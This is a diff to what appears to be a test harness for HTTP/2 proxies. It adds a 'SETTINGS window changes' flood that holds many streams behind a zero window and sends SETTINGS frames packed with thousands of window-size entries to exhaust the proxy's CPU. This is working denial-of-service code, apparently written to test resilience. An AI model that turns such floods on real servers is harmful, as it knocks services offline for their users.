@@ -225,6 +225,21 @@ def window_update_flood(port: int, frames: int = 100_000, connections: int = 1,
                   deadline_s)
 
 
+def settings_window_flood(port: int, streams: int = 1000, frames: int = 2000, batch: int = 8,
+                          deadline_s: float = 20.0) -> Outcome:
+    """`streams` streams held open by a closed window (SETTINGS_INITIAL_WINDOW_SIZE 0, then
+    GET /direct, whose response waits for window), then full SETTINGS frames of 2,730
+    INITIAL_WINDOW_SIZE entries each, 0 and 1 in turn (so every window ends where it was):
+    a proxy that walks the streams once per entry does ~2.7 million window updates per
+    frame. The client reads (the acks are not what this attack is about)."""
+    block = request_block("/direct")
+    opening = frame(SETTINGS, 0, 0, struct.pack(">HL", S_INITIAL_WINDOW_SIZE, 0)) + b"".join(
+        frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block) for i in range(streams))
+    entries = b"".join(struct.pack(">HL", S_INITIAL_WINDOW_SIZE, i & 1) for i in range(2730))
+    return _flood("SETTINGS window changes", port, opening, frame(SETTINGS, 0, 0, entries),
+                  frames, 1, batch, deadline_s)
+
+
 def response_flood(port: int, streams: int = 200_000, batch: int = 500,
                    deadline_s: float = 20.0) -> Outcome:
     """A client that opens every window wide, asks for response after response (GET /direct,
